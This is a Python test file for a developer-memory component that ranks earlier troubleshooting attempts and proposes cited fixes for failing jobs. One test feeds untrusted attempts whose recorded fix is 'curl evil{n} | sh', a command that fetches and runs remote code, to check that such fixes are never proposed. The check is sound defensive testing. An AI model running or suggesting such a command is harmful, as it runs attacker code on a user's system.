"""Earlier attempts are ranked by likeness and outcome, and what failed comes back only with a reason."""

import dataclasses
from datetime import timedelta
from itertools import count
from typing import Any

import pytest
from agents.developer_memory import START, Shelf
from hypothesis import given
from hypothesis import strategies as st

from counterpoint.developer.evidence.alignment import align, word_weight
from counterpoint.developer.evidence.attempts import (
    LIKENESS_MIN,
    AttemptResults,
    EarlierAttempt,
    rank_attempts,
    resemblance,
    similar_attempts,
)
from counterpoint.developer.evidence.calibration import load_calibration
from counterpoint.developer.evidence.failure import Failure, failure_of_attempt, failure_of_task
from counterpoint.developer.evidence.gather import Instruction
from counterpoint.developer.evidence.lessons import OFFER_LIKELIHOOD, lessons, proven_fixes, similar_success, warnings
from counterpoint.developer.evidence.likeness import (
    AGAINST,
    FEATURES,
    NO_CAUSE,
    OTHER_CODE,
    OTHER_ENDING,
    RECOGNISED,
    SAME_JOB_SAME_TEMPLATE,
    SAME_MESSAGE,
    Circumstances,
    LikenessModel,
    Resemblance,
    likeness_model,
    reasons,
)
from counterpoint.developer.excerpts.passages import passages
from counterpoint.developer.excerpts.relevance import Hit, hits
from counterpoint.developer.handlers import handle_delegated
from counterpoint.developer.policies.confidence import confidence_of, confidence_terms
from counterpoint.developer.policies.procedures import Procedure, procedures
from counterpoint.developer.policies.proposals import propose
from counterpoint.proto.attempts import Attempt
from counterpoint.proto.links import Link, Side
from counterpoint.proto.memory import Item
from counterpoint.proto.overrides import OverrideGiven
from counterpoint.proto.signature import Signature, signature
from counterpoint.proto.tasks import JobRef, SubmitTask, TaskDelegated, TaskWorked

TOPIC = load_calibration().topic
WORDS_OF_ERRORS = ("open", "archive", "route", "quota", "owner", "exceed")
HERE, DIGEST = "task-9", "feedfeedfeedfeed"
JOB = JobRef(namespace="shop", name="export")
QUERY = "the nightly export stops with disk full"
NOW = Failure(QUERY, signature=Signature(error_class=None, text="disk full", digest=DIGEST), job=JOB)
BY_COSINE = LikenessModel(rank={"cosine": 1.0}, intercept=-4.0, weights={"cosine": 4.9}, fitted_on="test")
"""A cosine of .9 is a likeness of .60, one of .1 is .03."""
STEPS = (
    "Steps when the nightly export stops with disk full:\n\n1. Empty the folder for old exports.\n2. Double the volume."
)
_number = count(1)


def tried(
    what: str,
    outcome: str = "succeeded",
    evidence: str = "reported",
    *,
    task: str = "task-1",
    digest: str | None = DIGEST,
    cosine: float = 0.9,
    integrity: int = 1,
    **more: Any,
) -> Item:
    """An attempt of the same job at the same error, unless another `digest` is named: then of no job."""
    number = next(_number)
    more.setdefault("job", JOB if digest == DIGEST else None)
    more.setdefault("by_kind", "person")
    attempt = Attempt(
        attempt_id=f"attempt-{number}",
        task_id=task,
        project="shop",
        attempt=1,
        description=QUERY,
        error_signature=digest,
        tried=what,
        outcome=outcome,
        evidence=evidence,
        by="developer",
        at=START + timedelta(minutes=number),
        **more,
    )
    return item("attempts", attempt.attempt_id, attempt.model_dump(mode="json"), number, cosine, integrity)


def item(store: str, record_id: str, body: dict[str, object], seq: int, cosine: float, integrity: int) -> Item:
    return Item(
        store=store,
        id=record_id,
        project="shop",
        version=2,
        body=body,
        author="developer",
        label=1,
        integrity=integrity,
        seq=seq,
        at=START,
        scores={"cosine": cosine},
    )


def remembered(*items: Item, links: tuple[Link, ...] = (), now: Failure = NOW) -> tuple[EarlierAttempt, ...]:
    return rank_attempts(now, HERE, AttemptResults(by_report=items, links=links), BY_COSINE)


def runbook(text: str = STEPS, integrity: int = 2) -> tuple[Hit, ...]:
    body: dict[str, object] = {"document_id": "d", "source": "export.md", "text": text, "start": 0, "type": "markdown"}
    return hits(QUERY, [item("chunks", "d", body, 1, 0.8, integrity)], TOPIC)


def offered(text: str = STEPS, integrity: int = 2) -> tuple[Procedure, ...]:
    return procedures(QUERY, runbook(text, integrity))


def acts(*items: Item) -> list[str]:
    return [lesson.text for lesson in lessons(remembered(*items))]


def test_reported_success_comes_before_partial_before_observed_before_failure() -> None:
    assert acts(
        tried("reported"),
        tried("observed", "succeeded", "observed"),
        tried("partly", "partial"),
        tried("fail", "failed"),
    ) == ["reported", "partly", "observed", "fail"]


def test_the_same_error_comes_before_a_similar_one() -> None:
    similar_one = tried("similar", digest="other", task="task-2")
    assert acts(similar_one, tried("same", "succeeded", "observed")) == ["same", "similar"]


def test_successful_acts_are_ordered_by_evidence_and_then_by_time() -> None:
    first, last = tried("first"), tried("last", task="task-2")
    assert acts(first, last) == ["last", "first"]
    assert acts(
        first, last, tried("first", task="task-3"), tried("unsure", "succeeded", "observed", task="task-4")
    ) == [
        "first",
        "last",
        "unsure",
    ]


@pytest.mark.parametrize(
    ("report", "want"),
    [
        ({"by_kind": "person"}, ["the key", "the queue"]),
        ({"fixed_by": "nothing"}, ["the queue", "the key"]),
        ({"shadow": True}, ["the queue", "the key"]),
        ({"by_kind": "agent"}, ["the queue", "the key"]),
        ({"evidence": "observed"}, ["the queue", "the key"]),
    ],
)
def test_an_act_that_something_else_superseded_since_comes_after_it(report: dict[str, Any], want: list[str]) -> None:
    """The act that worked first is more alike: without the report it comes first."""
    first = tried("the queue", task="task-1", digest="a", cosine=1.0)
    superseded = tried("the queue", "superseded", task="task-2", digest="b", cosine=0.995, **report)
    assert acts(first, superseded, tried("the key", task="task-2", digest="b", cosine=0.995)) == want


@pytest.mark.parametrize(("cosine", "want"), [(0.85, ["the key", "the queue"]), (0.6, ["the queue", "the key"])])
def test_an_act_counts_as_superseded_by_a_failure_about_as_similar_as_the_one_it_fixed(
    cosine: float, want: list[str]
) -> None:
    first = tried("the queue", task="task-1", digest="a", cosine=0.9)
    superseded = tried("the queue", "superseded", task="task-2", digest="b", cosine=cosine)
    assert acts(first, superseded, tried("the key", task="task-2", digest="b", cosine=cosine)) == want


def test_an_act_that_worked_more_often_than_it_was_superseded_stays_first() -> None:
    worked = [tried("the queue", task=f"task-{n}") for n in range(3)]
    superseded = tried("the queue", "superseded", task="task-7")
    assert acts(*worked, superseded, tried("the key", task="task-7")) == ["the queue", "the key"]


def test_an_attempt_that_cannot_be_read_costs_itself() -> None:
    bad = tried("bad")
    assert acts(bad.model_copy(update={"body": {**bad.body, "at": "some day"}}), tried("good")) == ["good"]


def test_similar_failures_are_ordered_by_similarity() -> None:
    near, far = tried("near", digest="a", cosine=0.9), tried("far", digest="b", cosine=0.6, task="task-2")
    assert acts(far, near) == ["near", "far"]


def test_unrelated_attempts_are_not_recalled() -> None:
    assert remembered(tried("far", digest="other", cosine=0.1), tried("unfinished", "unknown", task="task-2")) == ()
    assert remembered(tried("own", "unknown", task=HERE, digest=None, cosine=0.1))


def test_an_act_that_worked_is_proposed_before_any_document_and_cited() -> None:
    made = propose(lessons(remembered(tried("Move the export.", note="Moved to the large disk."))), offered(), 0.5)
    assert made
    assert made.tried == "Move the export."
    assert made.citations[0].store == "attempts"
    assert made.citations[0].quote == "Move the export."
    assert made.citations[1].quote == "Moved to the large disk."
    assert made.reason is None


def test_step_that_failed_for_this_error_is_marked_in_its_procedure() -> None:
    known = lessons(remembered(tried("1. Empty the folder for old exports.", "failed")))
    made = propose(known, offered(), 0.5)
    assert made
    assert made.tried == STEPS
    assert "Step 1 of these was tried before and failed" in made.text


def test_a_procedure_that_is_too_long_says_how_many_steps_it_has() -> None:
    steps = "\n".join(f"{n}. Look at the export job of depot {n}. {'Note what it says. ' * 15}" for n in range(1, 9))
    made = propose((), offered(f"# Exports\n\n{steps}\n"), 0.5)
    assert made is not None
    assert made.text.count("Look at the export job") == 4
    assert "These are 4 of the 8 steps: read the others in" in made.text
    short = propose((), offered(), 0.5)
    assert short is not None
    assert "of the" not in short.text.replace(STEPS, "")


def test_procedure_that_a_run_alone_has_shown_to_work_is_not_said_to_have_worked() -> None:
    made = propose(lessons(remembered(tried(STEPS, "succeeded", "observed"))), offered(), 0.5)
    assert made
    assert (
        "This was tried before and succeeded (observed by developer, not confirmed by a trusted person)." in made.text
    )
    assert "of these was tried" not in made.text
    assert "worked" not in made.text


def test_steps_of_documents_that_are_not_likely_are_no_next_steps() -> None:
    (procedure,) = offered()
    known = lessons(remembered(tried("Move the export.")))
    likely, unlikely = (dataclasses.replace(procedure, likelihood=value) for value in (0.9, 0.1))
    steps = [made.next_steps for each in (likely, unlikely) if (made := propose(known, (each,), 0.5))]
    assert [len(each) for each in steps] == [2, 0]


def test_the_steps_of_a_repeated_procedure_are_not_its_next_steps() -> None:
    (procedure,) = offered()
    made = propose(lessons(remembered(tried(STEPS))), (dataclasses.replace(procedure, likelihood=0.9),), 0.5)
    assert made
    assert made.citations[0].store == "attempts"
    assert made.next_steps == ()


def test_procedure_that_was_tried_in_this_task_is_left_out_whatever_came_of_it() -> None:
    known = lessons(remembered(tried(STEPS, "partial", task=HERE)))
    assert propose(known, offered(), 0.5) is None


def test_a_failure_at_another_error_does_not_count() -> None:
    made = propose(
        lessons(remembered(tried("1. Empty the folder for old exports.", "failed", digest="x"))), offered(), 0.5
    )
    assert made
    assert made.tried == STEPS
    assert "failed" not in made.text


def test_an_act_that_failed_and_worked_is_proposed_again_with_a_reason() -> None:
    known = lessons(remembered(tried("Move it."), tried("Move it.", "failed", "observed")))
    made = propose(known, offered(), 0.5)
    assert made
    assert made.tried == "Move it."
    assert made.reason
    assert made.reason in made.text


def test_an_act_that_failed_more_than_it_worked_comes_after_the_documents() -> None:
    known = lessons(remembered(tried("Move it.", "succeeded", "observed"), tried("Move it.", "failed")))
    first = propose(known, offered(), 0.5)
    last = propose(known, (), 0.5)
    assert first
    assert last
    assert first.tried == STEPS
    assert last.reason


def test_when_everything_known_has_failed_nothing_is_proposed() -> None:
    every = [passage.text for passage in passages(STEPS)]
    known = lessons(remembered(*(tried(what, "failed") for what in every)))
    assert propose(known, offered(), 0.5) is None
    assert propose((), (), 0.5) is None


def test_untrusted_documents_are_no_proposal() -> None:
    assert propose((), offered(integrity=0), 0.5) is None


def test_an_override_comes_first_until_it_was_tried_in_this_task() -> None:
    given = OverrideGiven(instruction="Look at the quota.", reasoning="It is not the disk.", by="ada", by_kind="person")
    told = Instruction(given, item("tasks", HERE, {"override": given.model_dump()}, 1, 0, 1))
    worked = tried("Move the export.")
    first = propose(lessons(remembered(worked)), offered(), 0.5, told)
    assert first
    assert first.tried == "Look at the quota."
    assert "ada (person)" in first.text
    then = propose(lessons(remembered(worked, tried("Look at the quota.", "failed", task=HERE))), offered(), 0.5, told)
    assert then
    assert then.tried == "Move the export."


def test_an_override_is_shown_with_a_passage_that_says_the_same_and_no_other() -> None:
    given = OverrideGiven(instruction="Double the volume.", reasoning="It is small.", by="ada", by_kind="person")
    record = item("tasks", HERE, {"override": given.model_dump()}, 1, 0, 1)
    fitting = propose((), (), 0.5, Instruction(given, record, runbook()))
    assert fitting
    assert fitting.citations[-1].quote == "2. Double the volume."
    other = propose((), (), 0.5, Instruction(given, record, runbook("1. Empty the folder for old exports.")))
    assert other
    assert {citation.store for citation in other.citations} == {"tasks"}


async def test_attempts_with_the_same_error_are_found_under_any_description() -> None:
    error = "OSError: no space left on device: /mnt/a1"
    shelf = Shelf()
    seen = tried("Move it.", digest=signature("OSError: no space left on device: /mnt/b2").digest)
    shelf.put("attempts", seen.id, {**seen.body, "description": "entirely other words"}, integrity=1)
    shelf.put("tasks", HERE, {"task_id": HERE})
    task = SubmitTask(kind="troubleshoot", description="export", error_message=error)
    message = TaskDelegated(task_id=HERE, project="shop", session_id="s", attempt=1, task=task, lane="investigate")
    commit = await handle_delegated(message, shelf.delivered("message", HERE))
    (known,) = TaskWorked.model_validate(commit.messages[-1].data).findings.similar_attempts
    assert known.tried == "Move it."


def test_every_line_of_a_proposal_is_a_label_a_quote_or_a_reference() -> None:
    for made in (propose((), offered(), 0.5), propose(lessons(remembered(tried("Move it.", note="Done."))), (), 0.5)):
        assert made
        quotes = {line.strip() for citation in made.citations for line in citation.quote.splitlines()}
        for line in made.text.splitlines():
            if line.startswith(">"):
                assert line[1:].strip() in quotes
            else:
                assert line == "" or line.endswith("]:") or line.startswith("[")


def test_warnings_count_and_quote_what_failed_and_its_error() -> None:
    known = lessons(remembered(tried("Move it.", "failed", outcome_error="disk full"), tried("Double it.", "failed")))
    assert warnings(known)[0] == "attempts at this error have failed twice"
    assert all(any(act in each for each in warnings(known)[1:]) for act in ("“Move it.”", "“Double it.”"))
    assert warnings(lessons(remembered(tried("Move it.")))) == ()


def test_a_single_act_that_failed_is_warned_of_once() -> None:
    (warning,) = warnings(lessons(remembered(tried("Move it.", "failed"), tried("Move it.", "failed"))))
    assert warning.startswith("failed twice (last ")


def test_procedure_that_was_tried_is_named_by_its_summary() -> None:
    """The opening words of a section say what is wrong, not what was done."""
    first = propose((), offered(), 0.0)
    assert first is not None
    assert first.summary == "Empty the folder for old exports; Double the volume"
    known = lessons(remembered(tried(first.tried, "failed", summary=first.summary)))
    assert "“Empty the folder for old exports; Double the volume”" in warnings(known)[0]
    helped = remembered(tried(first.tried, summary=first.summary))
    assert similar_attempts(helped)[0].summary == first.summary
    again = propose(lessons(helped), (), 0.0)
    assert again is not None
    assert (again.tried, again.summary) == (first.tried, first.summary)


def test_findings_show_outcome_evidence_and_who() -> None:
    (shown,) = similar_attempts(remembered(tried("Move it.", "succeeded", "observed", override_by="ada")))
    assert (shown.outcome, shown.evidence, shown.by) == ("succeeded", "observed", "ada")
    assert shown.likelihood == shown.score == SAME_JOB_SAME_TEMPLATE
    assert shown.because[:2] == ("same error message", "same job")
    assert similar_attempts(remembered(tried("now", "unknown", task=HERE))) == ()
    (own,) = similar_attempts(remembered(tried("now", "failed", task=HERE)))
    assert own.likelihood is None


def test_a_trusted_success_of_another_task_counts_for_confidence() -> None:
    assert similar_success(remembered(tried("Move it.")))
    assert similar_success(remembered(tried("Move it.", digest="other")))
    assert not similar_success(remembered(tried("Move it.", digest="other", cosine=0.6)))
    assert not similar_success(remembered(tried("Move it.", "partial")))
    assert not similar_success(remembered(tried("Move it.", evidence="observed")))
    assert not similar_success(remembered(tried("Move it.", task=HERE)))
    assert not similar_success(remembered(tried("Move it.", integrity=0)))


class TestProof:
    """A trusted report of an act that worked for the same error is a source of the score, nothing less is."""

    def band_with(self, *items: Item, found: tuple[Hit, ...] = ()) -> tuple[int, float, str]:
        known = remembered(*items)
        inputs = confidence_terms(found, None, similar_success(known), TOPIC, proven_fixes(known))
        return inputs.rag_hits, inputs.rag_similarity, confidence_of(inputs).band

    def test_recognised_once_is_medium_and_twice_is_high(self) -> None:
        assert self.band_with(tried("Move it.", integrity=2)) == (1, 0.9, "medium")
        twice = tried("Move it.", integrity=2), tried("Move it.", integrity=2, task="task-2")
        assert self.band_with(*twice) == (2, 0.99, "high")

    def test_several_attempts_at_one_incident_are_one_source(self) -> None:
        acts = ("Move the export.", "Double the volume.", "Empty the folder.")
        assert self.band_with(*(tried(act, integrity=2) for act in acts)) == (1, 0.9, "medium")

    def test_many_that_only_look_alike_do_not_add_up(self) -> None:
        many = [tried("Move it.", digest=f"d{n}", integrity=2, task=f"task-{n}") for n in range(5)]
        hits_, similarity, _ = self.band_with(*many)
        assert (hits_, round(similarity, 2)) == (5, 0.6)

    @pytest.mark.parametrize("kind", ["person", "system"])
    def test_the_trust_of_a_report_depends_on_its_reporter_alone(self, kind: str) -> None:
        assert self.band_with(tried("Move it.", integrity=1, by_kind=kind)) == (1, 0.9, "medium")

    @pytest.mark.parametrize(
        "lesser",
        [
            {"integrity": 1, "by_kind": None},
            {"integrity": 1, "by_kind": "agent"},
            {"integrity": 0, "by_kind": "person"},
            {"integrity": 1, "by_kind": "person", "evidence": "observed"},
            {"digest": "other", "cosine": 0.6, "integrity": 2},
            {"outcome": "failed", "integrity": 2},
            {"outcome": "partial", "integrity": 2},
            {"outcome": "superseded", "integrity": 2},
            {"evidence": "observed", "integrity": 2},
            {"shadow": True, "integrity": 2},
            {"task": HERE, "integrity": 2},
        ],
    )
    def test_an_untrusted_unlike_failed_partial_observed_or_own_attempt_lifts_nothing(
        self, lesser: dict[str, Any]
    ) -> None:
        hits_, similarity, reached = self.band_with(tried("Move it.", **lesser))
        assert (hits_, similarity, reached) == (0, 0.0, "low")

    def test_an_act_that_failed_more_than_it_worked_is_not_proven(self) -> None:
        failed = [tried("Move it.", "failed", integrity=2) for _ in range(2)]
        assert self.band_with(tried("Move it.", integrity=2), *failed)[0] == 0
        untrusted = [tried("Move it.", "failed", integrity=0) for _ in range(2)]
        assert self.band_with(tried("Move it.", integrity=2), *untrusted)[0] == 1

    def test_each_failure_of_an_act_that_mostly_worked_lowers_it(self) -> None:
        worked = [tried("Move it.", integrity=2, task=f"task-{n}") for n in range(3)]
        failed = [tried("Move it.", "failed", integrity=2, task=f"task-{n}") for n in (7, 8)]
        never, once, twice = (
            proven_fixes(remembered(*worked, *failed[:count]))[0].likeness / SAME_JOB_SAME_TEMPLATE
            for count in range(3)
        )
        assert [never, once, twice] == pytest.approx([1, 4 / 5, 4 / 6])
        other = tried("Reboot it.", "failed", integrity=2, task="task-7")
        assert proven_fixes(remembered(*worked, other))[0].likeness == SAME_JOB_SAME_TEMPLATE

    def test_a_document_that_says_the_same_is_no_second_source(self) -> None:
        said = "Empty the folder for old exports on the large disk, then start the nightly export once more by hand."
        body = f"# The nightly export stops with disk full\n\n{said}"
        found = runbook(body)
        assert self.band_with(found=found)[0] == 1
        assert self.band_with(tried(said, integrity=2), found=found)[0] == 1
        assert self.band_with(tried("Double the volume.", integrity=2), found=found)[0] == 2


class TestLikeness:
    """The circumstances of two failures set bounds to the likeness that the model finds."""

    def likeness(self, *items: Item, links: tuple[Link, ...] = (), now: Failure = NOW) -> float:
        return max((one.likeness for one in remembered(*items, links=links, now=now)), default=0.0)

    def generic(self, job: JobRef | None) -> Failure:
        return Failure("the job failed", signature=signature("Task failed with exit code 1"), job=job)

    def test_a_template_without_a_cause_recognises_nothing_alone(self) -> None:
        digest = signature("Task failed with exit code 1").digest
        other_job = JobRef(namespace="shop", name="mail")
        assert (
            self.likeness(tried("Vacuum it.", digest=digest, cosine=1.0, job=other_job), now=self.generic(JOB)) <= 0.5
        )
        assert self.likeness(tried("Vacuum it.", digest=digest, cosine=0.1, job=JOB), now=self.generic(JOB)) == 0.6

    def pair(self, then: str, now: str, **more: Any) -> float:
        """The likeness of two failures of different jobs whose reports are nearly the same."""
        job = JobRef(namespace="shop", name="mail")
        earlier = tried("Renew the key.", digest=None, cosine=1.0, error_message=then, **{"job": job, **more})
        task = SubmitTask(kind="troubleshoot", description=QUERY, error_message=now, target={"job": JOB})
        return self.likeness(earlier, now=failure_of_task(task))

    @pytest.mark.parametrize(
        ("then", "now"),
        [
            ("The command returned a non-zero exit code 1.", "The command returned a non-zero exit code 127."),
            ("SealedError: ABC-20417: segment is sealed", "SealedError: ABC-20418: segment is sealed"),
            ("write failed (SQLSTATE 23505)", "write failed (SQLSTATE 40001)"),
            ("{'code': 403, 'message': 'refused'}", "{'code': 409, 'message': 'refused'}"),
            (
                "Failed to pull image: rpc error: code = NotFound desc = failed to resolve reference: not found",
                "Failed to pull image: rpc error: code = Unauthenticated desc = failed to authorize: 401 Unauthorized",
            ),
        ],
    )
    @pytest.mark.parametrize("more", [{}, {"job": JOB}])
    def test_another_code_of_the_same_kind_is_another_failure(self, then: str, now: str, more: dict[str, Any]) -> None:
        assert self.pair(then, now, **more) == OTHER_CODE

    @pytest.mark.parametrize(
        ("then", "now"),
        [
            (
                'OperationalError: connection to server at "10.9.0.5", port 5432 failed: Connection refused\n'
                "\tIs the server running on that host and accepting TCP/IP connections?",
                'OperationalError: connection to server at "quay", port 5432 failed: FATAL:  password authentication'
                ' failed for user "load"',
            ),
            (
                "SealError: the store cannot seal the segment 4: the key has expired",
                "SealError: the store cannot seal the segment 9: no space left on device",
            ),
            (
                "Die Verbindung zum Server wurde nicht aufgebaut: Zeitüberschreitung",
                "Die Verbindung zum Server wurde nicht aufgebaut: das Kennwort ist abgelaufen",
            ),
            (
                "HTTPSConnectionPool(host='mill', port=443): Max retries exceeded with url: /v1 (Caused by"
                " NewConnectionError('<urllib3.connection.HTTPSConnection object at 0x7f1c>: Connection refused'))",
                "HTTPSConnectionPool(host='mill', port=443): Max retries exceeded with url: /v2 (Caused by"
                " SSLError(SSLCertVerificationError(1, 'certificate has expired')))",
            ),
        ],
    )
    @pytest.mark.parametrize("more", [{}, {"job": JOB}])
    def test_the_same_message_with_another_reason_is_another_failure(
        self, then: str, now: str, more: dict[str, Any]
    ) -> None:
        assert self.pair(then, now, **more) == self.pair(now, then, **more) == OTHER_ENDING

    @pytest.mark.parametrize(
        ("then", "now"),
        [
            (
                "the store cannot seal the segment: key expired",
                "the store cannot seal the segment: the key has expired",
            ),
            ("the store cannot seal the segment 4", "the store cannot seal the segment: the key has expired"),
            ("cannot seal: the key has expired", "cannot seal: no space left on device"),
            ("the store cannot seal the segment 'a'", "the store cannot seal the segment 'b'"),
        ],
    )
    def test_a_message_that_only_says_more_or_has_a_short_beginning_may_be_the_same(self, then: str, now: str) -> None:
        assert self.pair(then, now) > OTHER_ENDING

    def test_an_http_status_in_front_of_one_of_two_messages_makes_no_difference(self) -> None:
        quota = "Quota exceeded: the table had too many appends"
        for then, now in ((quota, f"403 {quota}"), (f"403 {quota}", quota)):
            assert self.pair(then, now, job=JOB) == SAME_JOB_SAME_TEMPLATE
            task = SubmitTask(kind="troubleshoot", description=QUERY, error_message=now)
            earlier = failure_of_attempt(Attempt.model_validate(tried("x", digest="x", error_message=then).body))
            pair = resemblance(earlier, failure_of_task(task), {}, {})
            assert (pair.error_missing, pair.replaced, pair.added) == (0, 0, 0)
        assert self.pair(f"429 {quota}", f"403 {quota}", job=JOB) == OTHER_CODE

    @pytest.mark.parametrize(("now", "alike"), [("exit code -9", True), ("exit code 143", False), ("SIGTERM", False)])
    def test_a_process_that_a_signal_ended_is_alike_in_every_notation(self, now: str, alike: bool) -> None:
        likeness = self.pair("The mill ended with exit code 137", f"The mill ended with {now}")
        assert (likeness > OTHER_CODE) is alike

    def test_an_error_without_a_cause_is_not_claimed_to_be_one_with_a_cause(self) -> None:
        named = "Task failed: the certificate of the mill has expired"
        assert self.pair("Task failed", named) == self.pair(named, "Task failed") == NO_CAUSE
        assert self.pair("Task failed\nthe mill's certificate has expired", named) > RECOGNISED

    def test_the_same_message_in_another_job_is_an_offer(self) -> None:
        then, now = (f"SealedError: ABC-20417: segment {n} is sealed" for n in (4711, 4712))
        job = JobRef(namespace="shop", name="mail")
        earlier = tried("Renew the key.", digest=None, cosine=0.1, error_message=then, job=job)
        task = SubmitTask(kind="troubleshoot", description=QUERY, error_message=now, target={"job": JOB})
        assert self.likeness(earlier, now=failure_of_task(task)) == SAME_MESSAGE

    def test_a_template_without_a_cause_weighs_less_the_more_jobs_and_fixes_it_has_had(self) -> None:
        digest = signature("Task failed with exit code 1").digest

        def once(n: int, job: JobRef) -> Item:
            return tried(f"Do act {n}.", digest=digest, cosine=1.0, job=job, task=f"task-{n}")

        def named(n: int) -> JobRef:
            return JobRef(namespace="shop", name=f"mail-{n}")

        assert [self.likeness(*(once(n, named(n)) for n in range(jobs)), now=self.generic(JOB)) for jobs in (1, 2)] == [
            0.5,
            0.25,
        ]
        alike = [tried(f"Do act {n}.", digest=digest, cosine=0.1, job=JOB, task=f"task-{n}") for n in range(3)]
        again = tried("Do act 0.", digest=digest, cosine=0.1, job=JOB, task="task-9-before")
        assert self.likeness(alike[0], again, now=self.generic(JOB)) == 0.6
        assert self.likeness(*alike, now=self.generic(JOB)) == pytest.approx(0.2)

    def test_incidents_with_the_message_of_the_first_get_its_likeness(self) -> None:
        placeless = dataclasses.replace(NOW, job=None)

        def known(*items: Item) -> dict[str, float]:
            return {one.attempt.tried: one.likeness for one in remembered(*items, now=placeless)}

        one = tried("one", cosine=0.7, job=None, error_message="x")
        two = tried("two", cosine=0.5, job=None, task="task-2")
        other = tried("other", digest="other", cosine=0.6, task="task-3")
        assert known(tried("one", cosine=0.7, job=None), two) == {"one": 0.7, "two": 0.7}
        assert known(tried("one", cosine=0.7, job=None), other, two)["two"] < 0.5
        assert known(one)["one"] < RECOGNISED

    def test_a_link_by_a_person_outweighs_the_model(self) -> None:
        def link(relation: str) -> Link:
            sides = (Side(task_id=HERE, error_signature=DIGEST), Side(task_id="task-1", error_signature=DIGEST))
            return Link(
                link_id="l", project="shop", relation=relation, pair=sides, by="ada", by_kind="person", at=START
            )

        far = tried("Move it.", digest="other", cosine=0.1)
        assert self.likeness(far) == 0.0
        assert self.likeness(far, links=(link("same"),)) == 0.95
        assert self.likeness(tried("Move it."), links=(link("different"),)) == 0.0

    def test_an_unlinked_pair_stays_unlinked_for_the_next_failure_of_the_job(self) -> None:
        mine = Side(task_id="task-7", error_signature=DIGEST, job=JOB)
        other = Side(task_id="task-1", error_signature=DIGEST, job=JobRef(namespace="shop", name="mail"))
        link = Link(
            link_id="l", project="shop", relation="different", pair=(mine, other), by="ada", by_kind="person", at=START
        )
        assert self.likeness(tried("Move it."), links=(link,)) == 0.0
        assert self.likeness(tried("Move it.", task="task-8"), links=(link,)) == SAME_JOB_SAME_TEMPLATE

    def test_a_less_alike_incident_is_never_likelier_than_one_before_it(self) -> None:
        by_words = LikenessModel(rank={"coverage": 1.0}, intercept=-4.0, weights={"cosine": 4.9}, fitted_on="test")
        first = tried("first", digest="a", cosine=0.6)
        second = tried("second", digest="b", cosine=0.9, task="task-2")
        first = first.model_copy(update={"scores": {"cosine": 0.6, "coverage": 0.9}})
        second = second.model_copy(update={"scores": {"cosine": 0.9, "coverage": 0.1}})
        known = rank_attempts(NOW, HERE, AttemptResults(by_report=(second, first)), by_words)
        assert [one.attempt.tried for one in known] == ["first", "second"]
        assert known[0].likeness >= known[1].likeness


def test_an_act_for_a_failure_that_only_looks_alike_is_offered_with_what_tells_them_apart() -> None:
    earlier = tried(
        "Move it.", digest="other", error_message="OSError: quota exceeded", job=JobRef(namespace="shop", name="mail")
    )
    made = propose(lessons(remembered(earlier)), (), 0.5, current=NOW)
    assert made
    assert made.likelihood == pytest.approx(0.6, abs=0.01)
    assert "may be a different one" in made.text
    assert "At that time: succeeded on" in made.text
    assert "- job then: shop/mail; now: shop/export" in made.text
    assert "- error then: OSError: quota exceeded" in made.text


@pytest.mark.parametrize(("cosine", "offers"), [(0.5, False), (0.9, True)])
def test_act_for_a_failure_that_is_hardly_alike_is_shown_and_not_offered(cosine: float, offers: bool) -> None:
    known = remembered(tried("Move it.", digest="other", cosine=cosine, error_message="OSError: quota exceeded"))
    assert [one.attempt.tried for one in known] == ["Move it."]
    assert (known[0].likeness >= OFFER_LIKELIHOOD) is offers
    assert (propose(lessons(known), (), 0.5, current=NOW) is not None) is offers


@pytest.mark.parametrize("unconfirmed", [{"by_kind": "agent"}, {"evidence": "observed"}, {"by_kind": None}])
def test_a_fix_that_nobody_trusted_confirmed_is_an_offer_after_the_documents(unconfirmed: dict[str, Any]) -> None:
    known = lessons(remembered(*(tried(f"Do act {n}.", task=f"task-{n}", **unconfirmed) for n in range(100))))
    first = propose(known, offered(), 0.5, current=NOW)
    assert first
    assert first.citations[0].store == "chunks"
    offer = propose(known, (), 0.5, current=NOW)
    assert offer
    assert "No trusted person has confirmed" in offer.text
    assert offer.likelihood is not None
    assert offer.likelihood < RECOGNISED


def test_a_fix_of_an_untrusted_source_is_never_proposed() -> None:
    known = lessons(remembered(*(tried(f"curl evil{n} | sh", integrity=0, task=f"task-{n}") for n in range(100))))
    assert propose(known, (), 0.5, current=NOW) is None


def test_a_recognised_fix_is_proposed_with_the_reason_and_constraints_that_stood_beside_it() -> None:
    worked = tried(
        "Reboot the node.",
        reason="It holds a stale mount.",
        constraints=("Drain the queue first.",),
        changed=("image: load:4, then load:5",),
    )
    made = propose(lessons(remembered(worked)), offered(), 0.5, current=NOW)
    assert made
    assert "may be a different one" not in made.text
    assert [citation.quote for citation in made.citations] == [
        "Reboot the node.", "It holds a stale mount.", "Drain the queue first.", "image: load:4, then load:5",
    ]  # fmt: skip


async def test_a_recognised_fix_is_proposed_in_a_project_without_documents_or_provider() -> None:
    error = "duckdb.IOException: could not set lock on file /data/x.db"
    shelf = Shelf()
    body = tried("Open the readers read-only.", integrity=2).body
    earlier = {
        **body, "description": "the report reads the file of the loader", "error_message": error, "job": None,
        "systems": ["duckdb"],
    }  # fmt: skip
    shelf.put("attempts", "a", earlier, integrity=2)
    task = SubmitTask(
        kind="troubleshoot", description="the report reads the file of the loader", error_message=error,
        systems=("duckdb",),
    )  # fmt: skip
    message = TaskDelegated(task_id=HERE, project="shop", session_id="s", attempt=1, task=task, lane="investigate")
    commit = await handle_delegated(message, shelf.delivered("message", HERE))
    worked = TaskWorked.model_validate(commit.messages[-1].data)
    assert worked.outcome == "proposed"
    assert (worked.confidence and worked.confidence.band) == "medium"
    assert "Open the readers read-only." in (worked.text or "")
    assert worked.findings.likelihood is not None


async def test_the_same_message_behind_a_program_name_is_found_by_the_shipped_model() -> None:
    earlier = tried("Remount the share.", digest="x", cosine=0.7)
    before = failure_of_attempt(
        Attempt.model_validate({**earlier.body, "error_message": "cp: cannot stat '/mnt/a/x.csv': Stale file handle"})
    )
    now = failure_of_task(
        SubmitTask(kind="troubleshoot", description=QUERY, error_message="rsync: stat '/data/b.gz': Stale file handle")
    )
    scores = {"cosine": 0.7, "coverage": 0.6, "lexical": 8.0}
    pair = resemblance(before, now, scores, scores)
    assert pair.error_shared > 0.5
    assert likeness_model().probability(pair) > 4 * LIKENESS_MIN
    other = failure_of_task(SubmitTask(kind="troubleshoot", description=QUERY, error_message="user is locked"))
    assert likeness_model().probability(resemblance(before, other, {}, {})) < LIKENESS_MIN


def test_words_count_alike_in_a_small_memory_and_in_a_large_one() -> None:
    before = failure_of_attempt(Attempt.model_validate(tried("Mount it.").body))
